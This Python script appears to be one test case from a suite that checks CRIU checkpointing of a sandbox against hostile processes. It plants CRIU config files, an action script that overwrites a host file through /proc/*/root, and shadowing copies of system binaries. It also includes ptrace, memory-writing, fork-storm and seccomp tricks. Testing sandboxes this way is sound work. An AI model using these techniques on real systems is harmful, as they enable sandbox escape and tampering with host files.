# Case 22: what CRIU finds when it saves a sandbox. `plant` leaves files for it. Each other attack is one process, or a few, that
# say "at work" once they are. The last argument is a file of the host.
import mmap, resource

MARKER, ENOUGH = "/tmp/criu-was-here", "/tmp/enough"
ATTACH, DETACH = 16, 17
ANONYMOUS_FIXED = 0x32
FILTER_PROGRAM, ALLOW, KILL = 2, 0x7FFF0000, 0x80000000
HOME = os.path.expanduser("~")


def at_work():
    os.write(1, b"at work\n")


def forever():
    while True:
        time.sleep(3600)


def put(path, text, mode=0o755):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, mode)


def plant():
    """Configuration, a plugin and a cache of CRIU, and programs that it calls."""
    action = f"#!/bin/bash\necho $0 $* >> {MARKER}\nfor root in '' /proc/*/root; do echo taken > $root{sys.argv[2]}; done\n"
    put("/usr/local/bin/criu-action", action)
    for place in ["/etc/criu", f"{HOME}/.criu", "/home/user/.criu"]:
        for name in ["default.conf", "runc.conf"]:
            put(f"{place}/{name}", f"action-script /usr/local/bin/criu-action\nlog-file {MARKER}.log\nleave-stopped\n")
    source = f'__attribute__((constructor)) static void taken(void) {{ __builtin_trap(); }}\n'
    for place in ["/usr/lib/criu", "/usr/local/lib/criu", "/usr/lib/x86_64-linux-gnu/criu"]:
        os.makedirs(place, exist_ok=True)
        # Loading it ends CRIU, so that nothing is saved.
        subprocess.run(["/usr/bin/gcc", "-shared", "-fPIC", "-x", "c", "-", "-o", f"{place}/taken.so"], input=source.encode(), check=True)
    put("/run/criu.kdat", "not a cache")
    calls = ["iptables", "ip6tables", "iptables-restore", "ip6tables-restore", "iptables-save", "nft", "ip", "tar", "modprobe"]
    for name in ["sh", *calls, "criu", "crit", "criu-ns"]:
        for place in ["/usr/local/sbin", "/usr/local/bin"]:
            put(f"{place}/{name}", action)


def keep_awake():
    """Whoever stops this process has it for a millisecond."""
    event = struct.pack("qii", 0, signal.SIGCONT, 0) + bytes(48)
    timer = ctypes.c_int()
    call(222, time.CLOCK_MONOTONIC, event, ctypes.byref(timer))
    call(223, timer.value, 0, struct.pack("qqqq", 0, 1_000_000, 0, 1_000_000), 0)


def continues_itself():
    keep_awake()
    at_work()
    count = 0
    while True:
        count += 1


def sibling():
    child = os.fork()
    if child == 0:
        while True:
            time.sleep(0.001)
    return child


def traces_siblings():
    victims = [sibling() for _ in range(3)]
    keep_awake()
    at_work()
    while True:
        for victim in victims:
            try:
                call(101, ATTACH, victim, 0, 0)
                os.waitpid(victim, 0x40000000)
                call(101, DETACH, victim, 0, 0)
            except OSError:
                pass


def programs_of(process):
    """Where it has memory that can be run."""
    with open(f"/proc/{process}/maps") as maps:
        return {line.split()[0] for line in maps if " r-xp " in line or " rwxp " in line or " rwxs " in line}


def writes_into_siblings():
    """What is new in the memory of another process is CRIU's."""
    victim = sibling()
    time.sleep(0.1)
    own = programs_of(victim)
    keep_awake()
    at_work()
    junk = ctypes.create_string_buffer(b"\xcc" * 4096)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(junk), 4096)
    while True:
        try:
            for new in programs_of(victim) - own:
                remote = (ctypes.c_uint64 * 2)(int(new.split("-")[0], 16), 4096)
                call(311, victim, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        except OSError:
            pass


def forks_without_end():
    """About fifty processes, each of which starts its successor and ends."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(50):
        if os.fork() == 0:
            while not os.path.exists(ENOUGH):
                try:
                    if os.fork():
                        os._exit(0)
                except OSError:
                    pass
            os._exit(0)
    at_work()
    forever()


def vforks():
    at_work()
    while True:
        os.waitpid(os.posix_spawn("/usr/bin/true", ["true"], {}), 0)


def waits_in_vfork():
    """Until its child has a program, which waits for a writer that never comes."""
    path = f"{HOME}/nobody-writes"
    if not os.path.exists(path):
        os.mkfifo(path)
    parent = os.getpid()
    if os.fork() == 0:
        state = " S "
        while " D " not in state:
            with open(f"/proc/{parent}/stat") as stat:
                state = stat.read()
        at_work()
        forever()
    os.posix_spawn("/usr/bin/true", ["true"], {}, file_actions=[(os.POSIX_SPAWN_OPEN, 0, path, os.O_RDONLY, 0)])


def swaps_its_program():
    """Runs one copy of the interpreter after the other. Another file has its name before it runs."""
    place = f"{HOME}/swapped"
    own, other = (sys.argv[3], sys.argv[4]) if len(sys.argv) > 3 else ("one", "two")
    if len(sys.argv) == 3:
        os.makedirs(place, exist_ok=True)
        for name in [own, other]:
            subprocess.run(["/usr/bin/cp", os.path.realpath(sys.executable), f"{place}/{name}"], check=True)
        at_work()
    next_name = f"{place}/next-{os.getpid()}"
    os.link(f"{place}/{other}", next_name)
    os.rename(next_name, f"{place}/program")
    time.sleep(0.02)
    words = [f"{place}/program", __file__, "swaps_its_program", sys.argv[2], other, own]
    os.execve(words[0], words, {"PYTHONHOME": sys.base_prefix, "HOME": HOME})


def replaces_its_vdso():
    with open("/proc/self/maps") as maps:
        line = next(line for line in maps if "[vdso]" in line)
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    code = ctypes.string_at(start, end - start)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    libc.mmap(start, end - start, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC, ANONYMOUS_FIXED, -1, 0)
    ctypes.memmove(start, code, len(code))
    at_work()
    forever()


def dies_of_any_call():
    """But of reads and writes. Seccomp's strict mode, which a process with a filter cannot have."""
    allowed = [0, 1, 15, 60, 219, 231]
    code = [struct.pack("HBBI", 0x20, 0, 0, 0)]
    code += [struct.pack("HBBI", 0x15, len(allowed) - index, 0, number) for index, number in enumerate(allowed)]
    code += [struct.pack("HBBI", 0x06, 0, 0, KILL), struct.pack("HBBI", 0x06, 0, 0, ALLOW)]
    instructions = ctypes.create_string_buffer(b"".join(code))
    program = struct.pack("HxxxxxxQ", len(code), ctypes.addressof(instructions))
    reader, _ = os.pipe()
    try:
        call(157, 22, 1, 0)
        raise SystemExit("strict mode was allowed")
    except OSError:
        pass
    call(157, 38, 1, 0, 0, 0)
    call(157, 22, FILTER_PROGRAM, program)
    at_work()
    os.read(reader, 1)


def blocks_all_signals():
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    at_work()
    forever()


def leads_a_session_without_a_parent():
    reader, writer = os.pipe()
    if os.fork() == 0:
        os.setsid()
        os.write(writer, b"x")
        forever()
    os.read(reader, 1)
    at_work()
    os._exit(0)


def renames_what_it_has_open():
    place = f"{HOME}/renamed"
    os.makedirs(place, exist_ok=True)
    files = [open(f"{place}/{number}", "w+") for number in range(20)]
    keep_awake()
    at_work()
    while True:
        for number in range(len(files)):
            os.rename(f"{place}/{number}", f"{place}/x")
            os.link(f"{place}/x", f"{place}/{number}")
            os.unlink(f"{place}/x")
        os.rename(place, f"{place}-away")
        os.rename(f"{place}-away", place)


def has_room_for_nothing():
    with open("/proc/self/statm") as file:
        size = int(file.read().split()[0]) * 4096
    for what, limit in [("NOFILE", 0), ("NPROC", 1), ("FSIZE", 0), ("AS", size), ("DATA", 0), ("MEMLOCK", 0)]:
        resource.setrlimit(getattr(resource, f"RLIMIT_{what}"), (limit, limit))
    at_work()
    while True:
        signal.pause()


globals()[sys.argv[1]]()
